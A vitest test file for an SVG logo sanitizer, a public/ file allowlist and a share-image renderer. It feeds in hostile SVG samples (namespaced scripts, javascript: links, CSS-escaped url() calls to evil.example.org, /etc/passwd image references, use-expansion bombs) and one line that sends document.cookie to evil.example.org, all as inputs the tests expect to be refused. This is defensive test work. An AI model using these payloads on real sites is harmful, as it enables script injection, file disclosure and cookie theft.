/**
 * Hostile input: logos and other files in public/. What is served is what was
 * checked (the sanitized form), namespaces are resolved, and the share-image renderer loads
 * nothing but the SVG it is given and the bundled fonts.
 */
import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { logoProblems } from '../../src/validation/logo-safety.ts';
import { sanitizeSvg } from '../../src/validation/svg-sanitize.ts';
import { formatProblem, validateContent } from '../../src/validation/index.ts';
import { externalReference, renderPng } from '../../src/og/render-png.ts';
import { svgSize } from '../../src/og/svg.ts';
import { makeTree } from '../helpers/validation-tree.ts';

const SVG = 'http://www.w3.org/2000/svg';
const clean = `<svg xmlns="${SVG}" viewBox="0 0 10 10"><rect width="10" height="10" fill="#123456"/></svg>`;
/** A logo with `inner` added after its rectangle, and extra attributes on the root. */
const logo = (inner: string, rootAttrs = '') =>
  `<svg xmlns="${SVG}"${rootAttrs} viewBox="0 0 10 10"><rect width="10" height="10" fill="#123456"/>${inner}</svg>`;

describe('logos: namespaces resolved, allowlist kept, served as checked', () => {
  it.each([
    [
      'an SVG script under a prefix',
      logo('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
      '<x:script>',
    ],
    [
      'an SVG script under a prefix declared on the root',
      logo('<x:script>alert(1)</x:script>', ' xmlns:x="http://www.w3.org/2000/svg"'),
      '<x:script>',
    ],
    [
      'an XHTML script',
      logo('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
      '<script> (namespace "http://www.w3.org/1999/xhtml")',
    ],
    [
      'an XHTML script under a prefix',
      logo('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
      '<h:script>',
    ],
    ['a plain script', logo('<script>alert(1)</script>'), '<script>'],
    ['a script in CDATA', logo('<script><![CDATA[alert(1)]]></script>'), '<script>'],
    [
      'a prefixed foreignObject',
      logo(
        '<s:foreignObject xmlns:s="http://www.w3.org/2000/svg"><div xmlns="http://www.w3.org/1999/xhtml">x</div></s:foreignObject>',
      ),
      '<s:foreignObject>',
    ],
    ['an image of a file', logo('<image href="/etc/hostname" width="10" height="10"/>'), '<image>'],
    [
      'a prefixed image with a prefixed href',
      logo(
        '<i:image xmlns:i="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink" l:href="/path/outside/the/repo.png"/>',
      ),
      '<i:image>',
    ],
    [
      'a use of another file via a prefixed href',
      logo('<use xmlns:l="http://www.w3.org/1999/xlink" l:href="other.svg#x"/>'),
      'l:href= on <use>',
    ],
    ['a use of another file via href', logo('<use href="https://evil.example.org/x.svg#a"/>'), 'href= on <use>'],
    ['a link', logo('<a href="javascript:alert(1)"><rect width="1" height="1"/></a>'), '<a>'],
    [
      'SMIL animate setting an href',
      logo('<use href="#r"><animate attributeName="href" to="javascript:alert(1)"/></use>'),
      '<animate>',
    ],
    ['SMIL set', logo('<set attributeName="href" to="data:text/html,x"/>'), '<set>'],
    ['an event handler', logo('<circle r="1" onclick="alert(1)"/>'), 'onclick= on <circle>'],
    [
      'a prefixed event handler',
      logo('<circle r="1" e:onload="alert(1)" xmlns:e="http://www.w3.org/2000/svg"/>'),
      'e:onload= on <circle>',
    ],
    ['a style element', logo('<style>@import url(https://evil.example.org/x.css);</style>'), '<style>'],
    ['a style attribute', logo('<circle r="1" style="fill:url(https://evil.example.org/x)"/>'), 'style= on <circle>'],
    [
      'an external url() in a presentation attribute',
      logo('<circle r="1" fill="url(https://evil.example.org/x.svg#g)"/>'),
      'fill= on <circle>',
    ],
    ['an feImage', logo('<filter id="f"><feImage href="/etc/passwd"/></filter>'), '<feImage>'],
    [
      'an element in no namespace',
      `<svg xmlns="${SVG}" viewBox="0 0 1 1"><g xmlns=""><script>alert(1)</script></g></svg>`,
      '<g> (namespace "none")',
    ],
    ['an editor namespace attribute', logo('<g v:layer="x" xmlns:v="http://vectornator.io"/>'), 'v:layer= on <g>'],
    [
      'a processing instruction',
      `<?xml-stylesheet href="https://evil.example.org/x.xsl"?>${clean}`,
      '<?xml-stylesheet?>',
    ],
    // Presentation attributes are CSS to a browser: escapes, comments and other functions.
    [
      'a CSS escape spelling url(',
      logo('<circle r="1" fill="\\75 rl(https://evil.example.org/x)"/>'),
      'fill= on <circle>: "\\\\75 rl(https://evil.example.org/x)" holds a backslash',
    ],
    [
      'a six-digit CSS escape in a filter',
      logo('<g filter="\\000075rl(https://evil.example.org/f)"/>'),
      'filter= on <g>',
    ],
    ['an escaped letter in the middle', logo('<g mask="u\\rl(https://evil.example.org/m)"/>'), 'mask= on <g>'],
    [
      'a backslash written as an XML entity',
      logo('<circle r="1" fill="&#x5c;75 rl(https://evil.example.org/x)"/>'),
      'holds a backslash',
    ],
    ['URL( in capitals', logo('<circle r="1" fill="URL(https://evil.example.org/x)"/>'), 'fill= on <circle>'],
    ['uRl( with quotes and spaces', logo(`<circle r="1" fill="uRl( 'https://evil.example.org/x' )"/>`), 'fill='],
    ['a CSS comment', logo('<circle r="1" fill="url/**/(https://evil.example.org/x)"/>'), 'holds a CSS comment'],
    ['image-set()', logo('<circle r="1" fill="image-set(https://evil.example.org/x 1x)"/>'), 'calls image-set()'],
    ['src()', logo('<circle r="1" clip-path="src(https://evil.example.org/x)"/>'), 'calls src()'],
  ])('%s is removed, and validate names it', (_what, text, removed) => {
    const result = sanitizeSvg(text);
    expect(result.fatal).toBeUndefined();
    expect(result.removed.map((r) => r.what).join('\n')).toContain(removed);
    // The sanitized form keeps no script, foreign content, image, animation or outside reference.
    expect(result.output).not.toMatch(
      /script|foreignObject|image|animate|<set|onclick|onload|style|https:|\/etc|javascript/i,
    );
    expect(logoProblems(result.output!)).toEqual([]);
    const problems = logoProblems(text);
    expect(problems.length).toBeGreaterThan(0);
    expect(problems.map((p) => p.message).join('\n')).toContain(removed);
  });

  it.each([
    ['a doctype with entities', `<!DOCTYPE svg [<!ENTITY a "b">]>${clean}`, '<!DOCTYPE>'],
    ['an entity expansion', `<svg xmlns="${SVG}"><text>&x;</text></svg>`, 'not well-formed XML'],
    ['two root elements', `${clean}${clean}`, 'a second root element'],
    ['an HTML root', '<html><script>alert(1)</script></html>', 'the root element is <html>'],
    [
      'an svg root in the wrong namespace',
      '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>',
      'the root element is <svg>',
    ],
    [
      'no viewBox or size',
      `<svg xmlns="${SVG}"><rect width="1" height="1"/></svg>`,
      'expected a viewBox or width and height',
    ],
    [
      'elements nested 10,000 deep',
      `<svg xmlns="${SVG}" viewBox="0 0 1 1">${'<g>'.repeat(10_000)}${'</g>'.repeat(10_000)}</svg>`,
      'nested more than 200 deep',
    ],
    ['not XML at all', 'GIF89a', 'not well-formed XML'],
  ])('%s is refused as a whole', (_what, text, says) => {
    const problems = logoProblems(text);
    expect(problems).toHaveLength(1);
    expect(problems[0].rule).toBe('logo:document');
    expect(problems[0].message).toContain(says);
  });

  it.each([
    [
      '10^5 uses in five levels of ten',
      `<defs><g id="a0"><rect width="1" height="1"/></g>${[1, 2, 3, 4, 5]
        .map((i) => `<g id="a${i}">${`<use href="#a${i - 1}"/>`.repeat(10)}</g>`)
        .join('')}</defs><use href="#a5"/>`,
      'expands to more than 5000 elements',
    ],
    [
      'patterns filling with patterns',
      `<defs><pattern id="p0" width="1" height="1"><rect width="1" height="1"/></pattern>${[1, 2, 3, 4, 5]
        .map(
          (i) =>
            `<pattern id="p${i}" width="1" height="1">${`<rect width="1" height="1" fill="url(#p${i - 1})"/>`.repeat(10)}</pattern>`,
        )
        .join('')}</defs><rect width="10" height="10" fill="url(#p5)"/>`,
      'expands to more than 5000 elements',
    ],
    ['a use inside what it uses', '<g id="loop"><use href="#loop"/></g>', 'a reference cycle'],
    ['two uses of each other', '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>', 'a reference cycle'],
  ])('%s: refused as a whole before any renderer expands it', (_what, inner, says) => {
    const problems = logoProblems(logo(inner));
    expect(problems).toHaveLength(1);
    expect(problems[0].rule).toBe('logo:document');
    expect(problems[0].message).toContain(says);
  });

  it('a thousand uses of one shape are fine', () => {
    const text = logo(`<defs><path id="p" d="M0 0h1v1z"/></defs>${'<use href="#p"/>'.repeat(1000)}`);
    expect(sanitizeSvg(text)).toEqual({ output: text, removed: [] });
  });

  it.each([
    ['a width of 1e400', `<svg xmlns="${SVG}" width="1e400" height="10"><rect width="1" height="1"/></svg>`],
    ['a viewBox of 1e400', `<svg xmlns="${SVG}" viewBox="0 0 1e400 10"><rect width="1" height="1"/></svg>`],
    ['a viewBox with NaN', `<svg xmlns="${SVG}" viewBox="0 0 NaN 10"><rect width="1" height="1"/></svg>`],
    ['Infinity', `<svg xmlns="${SVG}" width="Infinity" height="Infinity"><rect width="1" height="1"/></svg>`],
    ['a size past the limit', `<svg xmlns="${SVG}" width="1e9" height="1"><rect width="1" height="1"/></svg>`],
  ])('%s: no usable size, refused (it reached the page as width="NaN")', (_what, text) => {
    expect(() => svgSize(text)).toThrow(/finite, positive and at most/);
    expect(logoProblems(text)).toEqual([
      expect.objectContaining({ rule: 'logo:document', message: expect.stringContaining('finite, positive') }),
    ]);
  });

  it('a clean logo, gradients, masks, filters and local references pass unchanged', () => {
    const rich = `<svg xmlns="${SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient><clipPath id="c"><rect width="5" height="5"/></clipPath><filter id="f"><feGaussianBlur stdDeviation="1"/></filter><path id="p" d="M0 0h1v1z"/></defs><g clip-path="url(#c)" filter="url(#f)"><rect width="10" height="10" fill="url(#g)"/><use xlink:href="#p"/><use href="#p"/></g><text x="1" y="5">A &amp; B</text></svg>`;
    expect(sanitizeSvg(rich)).toEqual({ output: rich, removed: [] });
    expect(logoProblems(rich)).toEqual([]);
    expect(logoProblems(`${rich}\n`)).toEqual([]);
  });

  it('a file that differs only in form (a comment, an XML declaration) is refused: it is served as it is', () => {
    for (const text of [
      `<?xml version="1.0"?>${clean}`,
      `${clean}<!-- note -->`,
      clean.replace('"0 0 10 10"', "'0 0 10 10'"),
    ])
      expect(logoProblems(text).map((p) => p.rule)).toEqual(['logo:canonical']);
  });

  it('sanitizing is idempotent', () => {
    const once = sanitizeSvg(
      logo('<x:script xmlns:x="http://www.w3.org/2000/svg">1</x:script><g onclick="x"/>'),
    ).output!;
    expect(sanitizeSvg(once)).toEqual({ output: once, removed: [] });
  });

  it('writes text and attribute values with the one XML escape, quotes included', () => {
    const { output } = sanitizeSvg(
      `<svg xmlns="${SVG}" viewBox="0 0 10 10"><text font-family="'A&amp;B'">Tom &amp; Jerry's "5 &lt; 6"</text></svg>`,
    );
    expect(output).toContain(
      `<text font-family="&apos;A&amp;B&apos;">Tom &amp; Jerry&apos;s &quot;5 &lt; 6&quot;</text>`,
    );
    expect(sanitizeSvg(output!)).toEqual({ output, removed: [] });
  });
});

describe('public/: only an allowlist of files, every SVG checked', () => {
  function publicProblems(files: Record<string, string>): string[] {
    const tree = makeTree();
    try {
      for (const [rel, text] of Object.entries(files)) {
        mkdirSync(path.dirname(path.join(tree.root, 'public', rel)), { recursive: true });
        writeFileSync(path.join(tree.root, 'public', rel), text);
      }
      return validateContent({ contentDir: tree.content, cwd: tree.root }).problems.map(formatProblem);
    } finally {
      tree.cleanup();
    }
  }

  it.each([
    ['evil.html'],
    ['logos/alpha.SVG'],
    ['logos/evil.svgz'],
    ['logos/nested/x.svg'],
    ['x.js'],
    ['.htaccess'],
    ['figures/x.html'],
    ['logos/Upper.svg'],
  ])('%s is an error naming it', (rel) => {
    const problems = publicProblems({ [rel]: clean });
    expect(
      problems.some((p) => p.startsWith(`public/${rel}:1: file:unexpected: `)),
      problems.join('\n'),
    ).toBe(true);
  });

  it.each([['logos/gamma.svg'], ['figures/chart.svg'], ['favicon.svg']])(
    'a script in %s is an error naming it',
    (rel) => {
      const problems = publicProblems({
        [rel]: logo('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
      });
      expect(
        problems.some((p) => p.startsWith(`public/${rel}:1: logo:removed: <x:script>`)),
        problems.join('\n'),
      ).toBe(true);
    },
  );

  it('the allowed files pass', () => {
    expect(publicProblems({ 'logos/gamma.svg': clean, 'favicon.svg': clean, '.nojekyll': '' })).toEqual([]);
  });

  it.each([
    ['theme.js', ''],
    ['theme.js', '(function(){})();\nfetch("https://evil.example.org/?" + document.cookie);'],
    ['app.mjs', 'export {}'],
    ['sw.js', 'self.addEventListener("fetch", () => {})'],
    ['logos/x.js', ''],
    ['index.html', '<script>alert(1)</script>'],
    ['page.xhtml', ''],
    ['feed.xml', ''],
    ['run.wasm', ''],
  ])('no file a browser runs: public/%s is refused, whatever it holds', (rel, text) => {
    const problems = publicProblems({ [rel]: text });
    expect(
      problems.filter((p) => p.startsWith(`public/${rel}:1: file:unexpected: is a file a browser runs`)),
    ).toHaveLength(1);
  });

  it('.nojekyll must be empty', () => {
    expect(publicProblems({ '.nojekyll': '<script>alert(1)</script>' })).toEqual([
      'public/.nojekyll:1: file:unexpected: is not empty (expected an empty file: it only tells GitHub Pages not to run Jekyll)',
    ]);
  });

  it('the theme script is generated from src/, byte for byte, and public/ has none', () => {
    const root = path.join(import.meta.dirname, '../..');
    const route = readFileSync(path.join(root, 'src/pages/theme.js.ts'), 'utf8');
    expect(route).toContain("import theme from '../client/theme.js?raw';");
    expect(route).toMatch(/new Response\(theme, /);
    expect(existsSync(path.join(root, 'public/theme.js'))).toBe(false);
    expect(
      readdirSync(path.join(root, 'public'), { recursive: true }).filter(
        (f) => !String(f).endsWith('.svg') && f !== 'logos',
      ),
    ).toEqual(['.nojekyll']);
  });
});

describe('the share-image renderer loads nothing but the SVG and the bundled fonts', () => {
  it.each([
    ['an image', `<svg xmlns="${SVG}" width="4" height="4"><image href="/etc/hostname" width="4" height="4"/></svg>`],
    [
      'a prefixed image',
      `<svg xmlns="${SVG}" xmlns:i="${SVG}" width="4" height="4"><i:image href="/etc/hostname" width="4" height="4"/></svg>`,
    ],
    [
      'a use of a file',
      `<svg xmlns="${SVG}" xmlns:l="http://www.w3.org/1999/xlink" width="4" height="4"><use l:href="/tmp/x.svg#a"/></svg>`,
    ],
    [
      'an feImage',
      `<svg xmlns="${SVG}" width="4" height="4"><filter id="f"><feImage href="file:///etc/hostname"/></filter></svg>`,
    ],
    [
      'an external url()',
      `<svg xmlns="${SVG}" width="4" height="4"><rect width="4" height="4" fill="url(/tmp/x.svg#g)"/></svg>`,
    ],
  ])('%s is refused before resvg sees it', (_what, svg) => {
    expect(externalReference(svg)).toBeDefined();
    expect(() => renderPng(svg)).toThrow(/refusing to render an SVG that refers to something outside it/);
  });

  it('local references still render', () => {
    const svg = `<svg xmlns="${SVG}" width="4" height="4"><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs><rect width="4" height="4" fill="url(#g)"/></svg>`;
    expect(externalReference(svg)).toBeUndefined();
    expect(renderPng(svg).length).toBeGreaterThan(0);
  });

  it('the renderer is configured without system fonts', async () => {
    const source = (await import('node:fs')).readFileSync(
      path.join(import.meta.dirname, '../../src/og/render-png.ts'),
      'utf8',
    );
    expect(source).toContain('loadSystemFonts: false');
  });
});
